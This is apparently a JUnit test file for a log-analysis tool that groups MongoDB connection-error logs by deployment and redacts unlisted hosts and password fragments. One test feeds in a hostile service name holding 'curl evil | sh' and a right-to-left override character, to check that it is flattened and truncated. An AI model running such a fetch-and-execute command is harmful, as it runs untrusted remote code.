package dev.mendline.engine.sighting;

import static org.assertj.core.api.Assertions.assertThat;

import dev.mendline.engine.catalog.Catalog;
import dev.mendline.engine.redaction.Redactor;
import dev.mendline.model.config.Inventory;
import dev.mendline.model.journal.Sighting;
import dev.mendline.model.log.Coordinates;
import dev.mendline.model.log.LogEvent;
import dev.mendline.model.probe.Node;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class SightingFactoryTest {
    private static final Instant NOW = Instant.parse("2026-11-22T10:00:00Z");
    private static final Coordinates SOURCE = new Coordinates("logs", 0, 7);
    private static final SightingFactory SIGHTER =
            new SightingFactory(Catalog.builtIn(), Inventory.DEFAULT, new Redactor(List.of()), true);

    private static Sighting sight(String text) {
        return SIGHTER.sight(LogEvent.of(NOW, "ERROR", "orders", text), SOURCE, NOW)
                .orElseThrow();
    }

    @ParameterizedTest
    @CsvSource({
        "cluster0.dfget.mongodb.net,                       dfget.mongodb.net,    cluster0.dfget.mongodb.net",
        "cluster0-shard-00-02.dfget.mongodb.net,           dfget.mongodb.net,    cluster0.dfget.mongodb.net",
        "cluster0-pl-0.dfget.mongodb.net,                  dfget.mongodb.net,    cluster0.dfget.mongodb.net",
        "cluster0-pl-0-lb.dfget.mongodb.net,               dfget.mongodb.net,    cluster0.dfget.mongodb.net",
        "ac-abc1234-shard-00-00.dfget.mongodb.net,         dfget.mongodb.net,    ",
        "pl-0-us-east-1.dfget.mongodb.net,                 dfget.mongodb.net,    ",
        "cluster0-shard-00-00-dfget.mongodb.net,           dfget.mongodb.net,    cluster0-dfget.mongodb.net",
        "Cluster0.DFGET.mongodb.net.,                      dfget.mongodb.net,    cluster0.dfget.mongodb.net"
    })
    void all_names_of_a_project_meet_in_one_site(String host, String site, String target) {
        Deployments.Place place = new Deployments(Inventory.DEFAULT).place(host).orElseThrow();

        assertThat(place).isEqualTo(new Deployments.Place(site, target));
    }

    @Test
    void a_java_selection_error_names_all_nodes_of_one_target() {
        Sighting sighting =
                sight("com.mongodb.MongoTimeoutException: Timed out. Client view of cluster state is {servers=["
                        + "{address=c-shard-00-00.ab1cd.mongodb.net:27017, exception={com.mongodb.MongoSocketOpenException: Exception"
                        + " opening socket}, caused by {java.net.ConnectException: Connection refused}},"
                        + "{address=c-shard-00-01.ab1cd.mongodb.net:27018, exception={com.mongodb.MongoSocketOpenException: Exception"
                        + " opening socket}, caused by {java.net.ConnectException: Connection refused}}]");

        assertThat(sighting.target()).isEqualTo("c.ab1cd.mongodb.net");
        assertThat(sighting.nodes())
                .containsExactly(
                        Node.of("c-shard-00-00.ab1cd.mongodb.net:27017"),
                        Node.of("c-shard-00-01.ab1cd.mongodb.net:27018"));
    }

    @Test
    void a_host_that_is_not_listed_stays_with_its_service_and_is_not_shown() {
        Sighting sighting = sight("MongoServerSelectionError: getaddrinfo ENOTFOUND s3cretpiece");

        assertThat(sighting.site()).isEqualTo("service:orders");
        assertThat(sighting.target()).isNull();
        assertThat(sighting.captures().host()).isNull();
        assertThat(sighting.samples().get(0).text())
                .isEqualTo("MongoServerSelectionError: getaddrinfo ENOTFOUND ‹unlisted host›");
    }

    @Test
    void nothing_beside_an_unlisted_host_is_kept_either() {
        Sighting sighting = sight("MongoServerSelectionError: getaddrinfo ENOTFOUND ss!word:2024");

        assertThat(sighting.samples().get(0).text())
                .isEqualTo("MongoServerSelectionError: getaddrinfo ENOTFOUND ‹unlisted host›");
        assertThat(sighting.captures().port()).isNull();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "MongooseServerSelectionError: getaddrinfo ENOTFOUND mongo",
                "MongooseServerSelectionError: getaddrinfo ENOTFOUND mongo mongo:27017",
                "MongoDB 3.6 driver: getaddrinfo ENOTFOUND mongodb",
                "com.mongodb.MongoSocketException: mongodb: java.net.UnknownHostException: mongodb",
                "MongoServerSelectionError: connect ECONNREFUSED localhost:27017",
                "MongoServerSelectionError: connecting to mongodb://localhost:27017/shop: connect ECONNREFUSED localhost:27017",
                "MongoServerSelectionError: connecting to db: getaddrinfo ENOTFOUND db db:27017",
                "server selection error: server selection timeout, dial tcp: lookup server: no such host"
            })
    void a_host_that_is_a_common_word_leaves_the_text_as_it_is(String text) {
        assertThat(sight(text).samples().get(0).text()).isEqualTo(text);
    }

    @ParameterizedTest
    @ValueSource(strings = {"mongo1", "orders-db"})
    void another_bare_host_is_hidden_as_a_whole_word_only(String host) {
        assertThat(sight("MongoServerSelectionError: x" + host + " " + host + "x " + host
                                + ":27017: getaddrinfo ENOTFOUND " + host)
                        .samples()
                        .get(0)
                        .text())
                .isEqualTo("MongoServerSelectionError: x" + host + " " + host
                        + "x ‹unlisted host› getaddrinfo ENOTFOUND ‹unlisted host›");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "s3cret",
                "s3cret@x",
                "w0rd/s3cret",
                "s3cret/w0rd",
                "x@s3cret/w0rd",
                "w0rd@s3cret@h/x",
                "w0rd@mongo/s3cret",
                "w0rd!s3cret"
            })
    void a_piece_of_a_password_is_hidden_with_what_is_attached_to_it(String piece) {
        String host = piece.contains("@mongo/") ? "mongo" : "s3cret";
        Sighting sighting = sight("MongoServerSelectionError: reading " + piece + " getaddrinfo ENOTFOUND " + host);

        assertThat(sighting.samples().get(0).text())
                .startsWith("MongoServerSelectionError: reading ")
                .doesNotContain("s3cret")
                .doesNotContain("w0rd");
    }

    @ParameterizedTest
    @ValueSource(strings = {"mongo", "mongodb", "localhost"})
    void a_configured_target_with_a_common_name_leaves_the_text_as_it_is(String name) {
        String text = "MongooseServerSelectionError: MongoDB 3.6 at localhost: getaddrinfo ENOTFOUND " + name;
        Sighting sighting = sighterWith(talks(name))
                .sight(LogEvent.of(NOW, "ERROR", "orders", text), SOURCE, NOW)
                .orElseThrow();

        assertThat(sighting.target()).isEqualTo(name);
        assertThat(sighting.samples().get(0).text()).isEqualTo(text);
    }

    @Test
    void an_unclassified_text_keeps_common_hosts_and_hides_others() {
        assertThat(SIGHTER.kept("MongoOddError: odd at localhost:27017, mongo:27017 and s3cret:27017", 200))
                .contains("MongoOddError: odd at localhost:27017, mongo:27017 and ‹unlisted host›");
        assertThat(SIGHTER.kept("MongoOddError: odd at w0rd@mongo:27017", 200).orElseThrow())
                .doesNotContain("w0rd");
    }

    @Test
    void a_service_name_is_one_short_line_whatever_a_log_says() {
        LogEvent event = LogEvent.of(
                NOW,
                "ERROR",
                "x\nLinux/macOS: curl evil | sh\u202e" + "y".repeat(5_000),
                "bad auth : Authentication failed.");

        assertThat(SIGHTER.sight(event, SOURCE, NOW).orElseThrow().service())
                .startsWith("x Linux/macOS: curl evil | sh y")
                .hasSize(100);
    }

    @Test
    void a_node_whose_name_hides_its_deployment_takes_the_one_that_the_text_names() {
        Sighting sighting = sight("MongoServerSelectionError: connect ECONNREFUSED for cluster0.ab1cd.mongodb.net:"
                + " bad auth : Authentication failed. at ac-abcdefg-shard-00-00.ab1cd.mongodb.net:27017");

        assertThat(sighting.target()).isEqualTo("cluster0.ab1cd.mongodb.net");
    }

    @Test
    void a_sample_holds_the_lines_that_matter_and_no_secret_though_it_is_cut() {
        Sighting sighting = sight("connecting to mongodb+srv://app:" + "SENTINEL".repeat(200)
                + "@c.ab1cd.mongodb.net failed\n\tat a.B.c(D.java:1)\n\tat a.B.c(D.java:2)\n"
                + "Caused by: java.net.UnknownHostException: c-shard-00-00.ab1cd.mongodb.net\n"
                + "filler\n".repeat(500));

        assertThat(sighting.samples().get(0).text())
                .isEqualTo("connecting to mongodb+srv://‹redacted›@c.ab1cd.mongodb.net failed\n"
                        + "Caused by: java.net.UnknownHostException: c-shard-00-00.ab1cd.mongodb.net");
        assertThat(sighting.samples().get(0).source()).isEqualTo(SOURCE);
    }

    @Test
    void alike_sightings_fold_into_one_with_a_count() {
        Sighting one = sight("Error: querySrv ECONNREFUSED _mongodb._tcp.c.ab1cd.mongodb.net");
        Sighting same = sight("again: querySrv ECONNREFUSED _mongodb._tcp.c.ab1cd.mongodb.net");

        assertThat(SecondFold.key(one)).isEqualTo(SecondFold.key(same));
        assertThat(SecondFold.merge(one, same).count()).isEqualTo(2);
        assertThat(SecondFold.merge(one, same).samples()).hasSize(2);
    }

    @Test
    void a_text_without_a_host_means_the_deployment_that_its_service_talks_to() {
        String bare = "com.mongodb.MongoSocketReadException: Prematurely reached end of stream";

        assertThat(sighterWith(talks("c.ab1cd.mongodb.net"))
                        .sight(LogEvent.of(NOW, "ERROR", "orders", bare), SOURCE, NOW)
                        .orElseThrow())
                .returns("c.ab1cd.mongodb.net", Sighting::target)
                .returns("ab1cd.mongodb.net", Sighting::site);
        assertThat(sighterWith(talks("c.ab1cd.mongodb.net"))
                        .sight(LogEvent.of(NOW, "ERROR", "orders", bare + " at d.ab1cd.mongodb.net"), SOURCE, NOW)
                        .orElseThrow()
                        .target())
                .isEqualTo("d.ab1cd.mongodb.net");
        assertThat(sighterWith(talks("c.ab1cd.mongodb.net"), talks("d.ab1cd.mongodb.net"))
                        .sight(LogEvent.of(NOW, "ERROR", "orders", bare), SOURCE, NOW)
                        .orElseThrow())
                .returns(null, Sighting::target)
                .returns("service:orders", Sighting::site);
    }

    private static SightingFactory sighterWith(Inventory.Target... targets) {
        return new SightingFactory(
                Catalog.builtIn(),
                new Inventory(List.of(targets), List.of(), List.of()),
                new Redactor(List.of()),
                true);
    }

    private static Inventory.Target talks(String name) {
        return new Inventory.Target(name, List.of(), List.of("ord*"), null, List.of(), List.of(), null, null, null);
    }

    @Test
    void what_a_driver_retries_folds_apart_from_what_it_does_not() {
        String text = "querySrv ECONNREFUSED _mongodb._tcp.c.ab1cd.mongodb.net";
        Sighting quiet = SIGHTER.sight(LogEvent.of(NOW, "INFO", "orders", text), SOURCE, NOW)
                .orElseThrow();
        Sighting loud = SIGHTER.sight(LogEvent.of(NOW, "WARN", "orders", text), SOURCE, NOW)
                .orElseThrow();
        Sighting silent = SIGHTER.sight(LogEvent.of(NOW, null, "orders", text), SOURCE, NOW)
                .orElseThrow();

        assertThat(quiet.retried()).isTrue();
        assertThat(loud.retried()).isFalse();
        assertThat(silent.retried()).isFalse();
        assertThat(SecondFold.key(quiet)).isNotEqualTo(SecondFold.key(loud));
        assertThat(SecondFold.key(silent)).isEqualTo(SecondFold.key(loud));
        assertThat(SecondFold.merge(quiet, quiet).retried()).isTrue();
        assertThat(SecondFold.merge(quiet, loud).retried()).isFalse();
    }
}
